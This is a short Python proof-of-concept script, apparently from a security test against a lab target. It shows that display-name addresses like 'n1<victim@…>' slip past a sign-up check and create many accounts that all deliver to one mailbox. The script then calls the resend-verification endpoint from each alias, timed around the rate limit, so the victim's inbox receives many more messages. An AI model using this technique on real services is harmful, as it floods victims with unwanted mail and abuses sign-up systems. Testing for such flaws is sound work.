"""One mailbox, many accounts: 'NAME<victim@…>' passes the address check, is a new account each time,
and the mailer delivers to victim@…; each such account can ask 'Send a new link' once a minute."""
import email as em, time, uuid, requests
from lib12 import *
victim = f"mbox{uuid.uuid4().hex[:5]}@target.test"
accts = [f"n{i}<{victim}>" for i in range(5)] + [victim]
for a in accts:
    s = requests.Session(); t = csrf(s.get(BASE + "/signup").text)
    r = s.post(BASE + "/signup", data={"csrf_token": t, "email": a, "password": PW, "organization": "Alias"}, allow_redirects=False)
    print(f"sign-up {a!r}: {r.status_code} {r.headers.get('location')}")
time.sleep(3)
def delivered():
    n = 0
    for f in eml_files():
        m = em.message_from_bytes(open(f, "rb").read())
        if victim in (m["To"] or ""): n += 1
    return n
print("messages whose To: is the one mailbox", victim, ":", delivered())
sessions = [login(a) for a in accts[:5]]
print("each alias account signs in:", len(sessions))
for rnd in range(2):
    codes = [post(s, "/account/verify-email/resend", {"csrf_token": token_of(s), "return_to": "/dashboard"}).headers.get("location") for s in sessions]
    print(f"resend round {rnd}:", codes)
    time.sleep(3); print("  delivered so far:", delivered())
    if rnd == 0: time.sleep(58)
